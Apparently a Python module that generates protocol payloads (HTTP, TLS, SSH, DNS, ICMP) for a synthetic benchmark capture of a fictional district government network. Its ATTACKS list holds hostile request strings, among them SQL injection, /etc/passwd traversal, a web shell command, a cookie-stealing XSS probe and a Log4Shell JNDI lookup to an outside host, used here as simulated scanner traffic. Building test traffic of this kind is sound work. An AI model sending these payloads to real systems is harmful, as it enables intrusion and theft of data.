"""Protocol payloads for the benchmark capture (bench/gen_pcap.py), as real bytes.

HTTP/1.1 request and response heads, TLS ClientHello/ServerHello records (TLS 1.3 and a
resumed TLS 1.2 handshake), SSH banners and binary packets (KEXINIT, ECDH, NEWKEYS, then
encrypted ones), DNS queries and answers (A, AAAA, TXT; some NXDOMAIN), ICMP echo data.
Templates are built once; per session only cheap fields vary (randoms, ids, names, sizes).
"""

from __future__ import annotations

import random
import struct
from email.utils import formatdate

# --- the office's own sites and the outside world ----------------------------------------

GOV_SITES = ("www.sukamajukab.go.id", "ppid.sukamajukab.go.id", "lpse.sukamajukab.go.id",
             "jdih.sukamajukab.go.id")
INTRANET = ("simpeg.sukamajukab.go.id:8080", "arsip.sukamajukab.go.id:8080")
PAGES = ("/", "/berita", "/berita/2026/11/bupati-resmikan-mal-pelayanan-publik",
         "/berita/2026/11/jadwal-vaksinasi-puskesmas", "/pengumuman?page=2",
         "/profil/visi-misi", "/layanan/perizinan-online", "/ppid/informasi-berkala",
         "/index.php/agenda?bulan=11&tahun=2026", "/search?q=kartu+keluarga",
         "/galeri/foto?album=hut-ri-81", "/dokumen/apbd-2026.pdf", "/kontak")
ASSETS = ("/assets/css/main.min.css", "/assets/js/app.bundle.js", "/assets/js/jquery.min.js",
          "/images/logo-pemkab.png", "/images/slider/banner-1.jpg", "/favicon.ico",
          "/uploads/2026/11/foto-kegiatan-1.jpg", "/assets/fonts/roboto.woff2")
INTRANET_PAGES = ("/pegawai/absensi", "/api/v1/pegawai?unit=12", "/surat/masuk?page=3",
                  "/dashboard", "/api/v1/notifikasi")
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A155F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.6723.102 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
# (method, target, user agent or "" for a browser's): what scanners and injectors send
ATTACKS = (
    ("GET", "/berita.php?id=1%27%20UNION%20SELECT%20NULL,version(),NULL--%20-", ""),
    ("GET", "/index.php?id=1'%20UNION%20SELECT%201,2,3--", ""),
    ("GET", "/../../../../etc/passwd", ""),
    ("GET", "/index.php?page=../../../../etc/passwd", ""),
    ("GET", "/berita.php?id=1%20AND%208745=8745", "sqlmap/1.8.11#stable (https://sqlmap.org)"),
    ("GET", "/", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)"),
    ("GET", "/.env", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:001027)"),
    ("GET", "/.git/config", ""),
    ("GET", "/wp-content/uploads/shell.php?cmd=id", ""),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", ""),
    ("POST", "/wp-login.php", ""),
    ("GET", "/", "${jndi:ldap://45.148.10.77:1389/a}"),
)
ATTACKERS = ("45.148.10.77", "185.220.101.47", "194.26.29.113", "103.147.8.201")
SSH_ATTACKERS = ("218.92.0.112", "61.177.172.140")


def http_request(rng: random.Random, host: str, attack: bool, intranet: bool) -> bytes:
    if attack:
        method, target, ua = ATTACKS[rng.randrange(len(ATTACKS))]
        ua = ua or BROWSERS[0]
    else:
        method = "GET"
        pages = INTRANET_PAGES if intranet else PAGES if rng.random() < 0.4 else ASSETS
        target = pages[rng.randrange(len(pages))]
        ua = BROWSERS[rng.randrange(len(BROWSERS) - intranet)]  # no Googlebot inside
        if rng.random() < 0.04:
            method, target = "POST", "/layanan/pengaduan" if not intranet else "/api/v1/absen"
    body = b""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"User-Agent: {ua}",
             "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
             "Accept-Language: id-ID,id;q=0.9,en-US;q=0.8,en;q=0.7",
             "Accept-Encoding: gzip, deflate", "Connection: keep-alive"]
    if rng.random() < 0.5:
        lines.append(f"Referer: http://{host.split(':')[0]}/")
    if intranet:
        lines.append(f"Cookie: PHPSESSID={rng.getrandbits(128):032x}")
    if method == "POST":
        body = (b"log=admin&pwd=admin123&wp-submit=Log+In" if attack else
                b"nama=Budi+Santoso&nik=3201xxxxxxxxxxxx&isi=Jalan+rusak+di+RT+03")
        lines += ["Content-Type: application/x-www-form-urlencoded",
                  f"Content-Length: {len(body)}"]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def content_type(target: bytes) -> str:
    path = target.split(b"?", 1)[0]
    for ext, ctype in ((b".css", "text/css"), (b".js", "application/javascript"),
                       (b".png", "image/png"), (b".jpg", "image/jpeg"),
                       (b".woff2", "font/woff2"), (b".pdf", "application/pdf"),
                       (b".ico", "image/x-icon")):
        if path.endswith(ext):
            return ctype
    return "application/json" if path.startswith(b"/api/") else "text/html; charset=UTF-8"


def http_response_head(status: int, ctype: str, length: int, ts: float) -> bytes:
    reason = {200: "OK", 403: "Forbidden", 404: "Not Found", 500: "Internal Server Error",
              302: "Found"}[status]
    return (f"HTTP/1.1 {status} {reason}\r\nServer: nginx\r\nDate: {formatdate(ts, usegmt=True)}"
            f"\r\nContent-Type: {ctype}\r\nContent-Length: {length}\r\nConnection: keep-alive"
            f"\r\nX-Frame-Options: SAMEORIGIN\r\n\r\n").encode()


HTML = (b"<!DOCTYPE html>\n<html lang=\"id\"><head><meta charset=\"utf-8\"><title>Pemerintah "
        b"Kabupaten Sukamaju</title><link rel=\"stylesheet\" href=\"/assets/css/main.min.css\">"
        b"</head><body><header class=\"navbar\"><a href=\"/\">Beranda</a> <a href=\"/berita\">"
        b"Berita</a> <a href=\"/layanan/perizinan-online\">Layanan</a></header><main>"
        + b"".join(b"<article class=\"post\"><h2><a href=\"/berita/2026/11/%d\">Rapat koordinasi "
                   b"percepatan penurunan stunting tingkat kecamatan %d</a></h2><p>Sukamaju - "
                   b"Pemerintah Kabupaten Sukamaju menggelar rapat koordinasi bersama camat, "
                   b"kepala puskesmas dan kepala desa se-kabupaten.</p></article>\n" % (i, i)
                   for i in range(200)) + b"</main></body></html>\n")


# --- TLS ---------------------------------------------------------------------------------

def _ext(kind: int, data: bytes) -> bytes:
    return struct.pack("!HH", kind, len(data)) + data


def _vec16(items: list[int]) -> bytes:
    return struct.pack(f"!H{len(items)}H", 2 * len(items), *items)


def _alpn(names: tuple[bytes, ...]) -> bytes:
    body = b"".join(bytes((len(n),)) + n for n in names)
    return struct.pack("!H", len(body)) + body


def _sni(name: str) -> bytes:
    raw = name.encode()
    return struct.pack("!HBH", len(raw) + 3, 0, len(raw)) + raw


def _handshake_record(kind: int, body: bytes, version: int = 0x0303) -> bytes:
    msg = bytes((kind,)) + len(body).to_bytes(3, "big") + body
    return struct.pack("!BHH", 0x16, version, len(msg)) + msg


CHROME_CIPHERS = [0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8,
                  0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035]
FIREFOX_CIPHERS = [0x1301, 0x1303, 0x1302, 0xC02B, 0xC02F, 0xCCA9, 0xCCA8, 0xC02C, 0xC030,
                   0xC00A, 0xC009, 0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035]
LEGACY_CIPHERS = [0xC02F, 0xC030, 0xC02B, 0xC02C, 0xC027, 0xC013, 0xC014, 0x009C, 0x009D,
                  0x003C, 0x002F, 0x0035, 0x000A]
SIG_ALGS = [0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601]


def client_hello(profile: str, sni: str, alpn: tuple[bytes, ...]) -> bytes:
    """A ClientHello record; the random (bytes 11:43) and session id (44:76) are zeros,
    for ``tls_client_hello`` to fill. Profiles: chrome and firefox (TLS 1.3 with key
    share), legacy (TLS 1.2 only, e.g. an old Java or Windows 7 client)."""
    exts: list[bytes] = []
    grease = profile == "chrome"
    if grease:
        exts.append(_ext(0x3A3A, b""))
    exts.append(_ext(0, _sni(sni)))
    exts.append(_ext(23, b""))  # extended_master_secret
    exts.append(_ext(0xFF01, b"\x00"))  # renegotiation_info
    groups = [0x001D, 0x0017, 0x0018] if profile != "firefox" else [0x001D, 0x0017, 0x0018,
                                                                    0x0019, 0x0100, 0x0101]
    exts.append(_ext(10, _vec16(([0x4A4A] if grease else []) + groups)))
    exts.append(_ext(11, b"\x01\x00"))  # ec_point_formats: uncompressed
    exts.append(_ext(35, b""))  # session_ticket
    if alpn:
        exts.append(_ext(16, _alpn(alpn)))
    exts.append(_ext(5, b"\x01\x00\x00\x00\x00"))  # status_request (OCSP)
    exts.append(_ext(13, _vec16(SIG_ALGS)))
    if profile != "legacy":
        exts.append(_ext(18, b""))  # signed_certificate_timestamp
        share = struct.pack("!HH", 0x001D, 32) + bytes(range(32))
        exts.append(_ext(51, struct.pack("!H", len(share)) + share))  # key_share: x25519
        exts.append(_ext(45, b"\x01\x01"))  # psk_key_exchange_modes: psk_dhe_ke
        versions = ([0x6A6A] if grease else []) + [0x0304, 0x0303]
        exts.append(_ext(43, bytes((2 * len(versions),)) + struct.pack(
            f"!{len(versions)}H", *versions)))
        if grease:
            exts.append(_ext(27, b"\x02\x00\x02"))  # compress_certificate: brotli
            exts.append(_ext(0x1A1A, b"\x00"))
    ciphers = {"chrome": [0x0A0A, *CHROME_CIPHERS], "firefox": FIREFOX_CIPHERS,
               "legacy": LEGACY_CIPHERS}[profile]
    body = b"\x03\x03" + bytes(32) + b"\x20" + bytes(32) + _vec16(ciphers) + b"\x01\x00"
    ext_bytes = b"".join(exts)
    if profile != "legacy":  # padding to a 512-byte hello, as Chrome and Firefox do
        pad = 512 - (len(body) + 2 + len(ext_bytes) + 4) - 4
        if pad > 0:
            ext_bytes += _ext(21, bytes(pad))
    body += struct.pack("!H", len(ext_bytes)) + ext_bytes
    return _handshake_record(1, body, 0x0301)


def server_hello(tls13: bool, alpn: bytes) -> bytes:
    """A ServerHello record (random and echoed session id zero, to fill like the client's):
    TLS 1.3 (supported_versions, key share) or a resumed TLS 1.2 session."""
    if tls13:
        share = struct.pack("!HH", 0x001D, 32) + bytes(range(32, 64))
        exts = _ext(43, b"\x03\x04") + _ext(51, share)
        cipher = 0x1301
    else:
        exts = _ext(0xFF01, b"\x00") + _ext(23, b"") + (_ext(16, _alpn((alpn,))) if alpn
                                                         else b"")
        cipher = 0xC02F
    body = (b"\x03\x03" + bytes(32) + b"\x20" + bytes(32) + struct.pack("!HB", cipher, 0)
            + struct.pack("!H", len(exts)) + exts)
    return _handshake_record(2, body)


def tls_hello(template: bytes, rng: random.Random) -> bytes:
    """``template`` with a fresh random and session id."""
    return template[:11] + rng.randbytes(32) + template[43:44] + rng.randbytes(32) + \
        template[76:]


CCS = b"\x14\x03\x03\x00\x01\x01"


def tls_record(kind: int, data: bytes) -> bytes:
    return struct.pack("!BHH", kind, 0x0303, len(data)) + data


# --- SSH ---------------------------------------------------------------------------------

SSH_CLIENTS = (b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n", b"SSH-2.0-PuTTY_Release_0.81\r\n",
               b"SSH-2.0-OpenSSH_for_Windows_9.5\r\n")
SSH_SERVERS = (b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n",
               b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
SSH_BOT = b"SSH-2.0-Go\r\n"


def _namelist(names: str) -> bytes:
    return struct.pack("!I", len(names)) + names.encode()


def ssh_packet(payload: bytes) -> bytes:
    """RFC 4253 binary packet (unencrypted, no MAC): length, padding, payload, padding."""
    pad = 8 - (len(payload) + 5) % 8
    if pad < 4:
        pad += 8
    return struct.pack("!IB", len(payload) + pad + 1, pad) + payload + bytes(pad)


def ssh_kexinit(server: bool) -> bytes:
    kex = ("curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,"
           "diffie-hellman-group16-sha512,diffie-hellman-group14-sha256")
    keys = "rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519"
    ciphers = "chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr,aes128-gcm@openssh.com"
    macs = "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256"
    comp = "none,zlib@openssh.com"
    lists = [kex + ("" if server else ",ext-info-c,kex-strict-c-v00@openssh.com"),
             keys, ciphers, ciphers, macs, macs, comp, comp, "", ""]
    payload = (b"\x14" + bytes(range(16)) + b"".join(_namelist(x) for x in lists)
               + b"\x00" + bytes(4))
    return ssh_packet(payload)


SSH_KEXINIT = (ssh_kexinit(False), ssh_kexinit(True))
SSH_ECDH_INIT = ssh_packet(b"\x1e" + struct.pack("!I", 32) + bytes(range(32)))
def _string(data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + data


# KEX_ECDH_REPLY (host key, server's ephemeral key, signature), then NEWKEYS
SSH_ECDH_REPLY = ssh_packet(
    b"\x1f" + _string(_string(b"ssh-ed25519") + _string(bytes(range(32))))
    + _string(bytes(range(32, 64))) + _string(_string(b"ssh-ed25519") + _string(bytes(64)))
) + ssh_packet(b"\x15")
SSH_NEWKEYS = ssh_packet(b"\x15")


# --- DNS ---------------------------------------------------------------------------------

DNS_NAMES = ("www.google.com", "fonts.googleapis.com", "www.gstatic.com", "graph.facebook.com",
             "web.whatsapp.com", "mmg.whatsapp.net", "www.instagram.com", "i.ytimg.com",
             "www.youtube.com", "outlook.office365.com", "login.microsoftonline.com",
             "ctldl.windowsupdate.com", "www.kemendagri.go.id", "sso.bkn.go.id",
             "lpse.lkpp.go.id", "www.detik.com", "www.kompas.com", "www.tokopedia.com",
             "shopee.co.id", "sipd.kemendagri.go.id", "www.sukamajukab.go.id",
             "simpeg.sukamajukab.go.id", "time.windows.com", "connectivitycheck.gstatic.com",
             "api.bpjs-kesehatan.go.id", "drive.google.com", "zoom.us", "cdn.jsdelivr.net")
NXDOMAIN_NAMES = ("wpad.kantor.local", "www.sukamajukab.go.id.kantor.local",
                  "printer-lt2.kantor.local", "www.gogle.com", "isatap.kantor.local")
TXT_NAMES = ("_dmarc.sukamajukab.go.id", "google.com", "sukamajukab.go.id")
SUSPICIOUS_NAMES = ("update-srv.duckdns.org",)
A, AAAA, TXT = 1, 28, 16


def _qname(name: str) -> bytes:
    return b"".join(bytes((len(p),)) + p.encode() for p in name.split(".")) + b"\x00"


def dns_query(ident: int, name: str, qtype: int) -> bytes:
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 1) + _qname(name) + struct.pack(
        "!HH", qtype, 1) + b"\x00\x00\x29\x04\xd0\x00\x00\x00\x00\x00\x00"  # EDNS0 OPT


def dns_answer(ident: int, name: str, qtype: int, rng: random.Random, nx: bool) -> bytes:
    question = _qname(name) + struct.pack("!HH", qtype, 1)
    if nx:
        soa = (b"\x00" + struct.pack("!HHIH", 6, 1, 900, 40) + b"\x01a\x00\x05admin\x00"
               + struct.pack("!IIIII", 2026112201, 1800, 900, 604800, 86400))
        return struct.pack("!HHHHHH", ident, 0x8183, 1, 0, 1, 0) + question + soa
    seed = sum(name.encode()) & 0xFF
    if qtype == A:
        rdatas = [bytes((104, 16 + i, seed, 1 + i)) for i in range(rng.randrange(1, 5))]
    elif qtype == AAAA:
        rdatas = [b"\x26\x06\x47\x00" + bytes(10) + bytes((seed, 1 + i)) for i in range(2)]
    else:
        txt = b"v=spf1 include:_spf.google.com ~all" if "_dmarc" not in name else \
            b"v=DMARC1; p=quarantine; rua=mailto:dmarc@sukamajukab.go.id"
        rdatas = [bytes((len(txt),)) + txt]
    answers = b"".join(b"\xc0\x0c" + struct.pack("!HHIH", qtype, 1, rng.randrange(30, 3600),
                                                  len(r)) + r for r in rdatas)
    return struct.pack("!HHHHHH", ident, 0x8180, 1, len(rdatas), 0, 0) + question + answers


PING_DATA = bytes(8) + bytes(range(0x10, 0x40))  # Linux ping: timestamp, then 0x10..0x3f


def icmp_echo(kind: int, ident: int, seq: int, data: bytes = PING_DATA) -> bytes:
    """An ICMP echo request (8) or reply (0) with its checksum (tshark checks it)."""
    raw = struct.pack("!BBHHH", kind, 0, 0, ident, seq) + data
    words = sum(struct.unpack(f"!{len(raw) // 2}H", raw[:len(raw) & ~1]))
    if len(raw) & 1:
        words += raw[-1] << 8
    while words >> 16:
        words = (words & 0xFFFF) + (words >> 16)
    return raw[:2] + struct.pack("!H", ~words & 0xFFFF) + raw[4:]
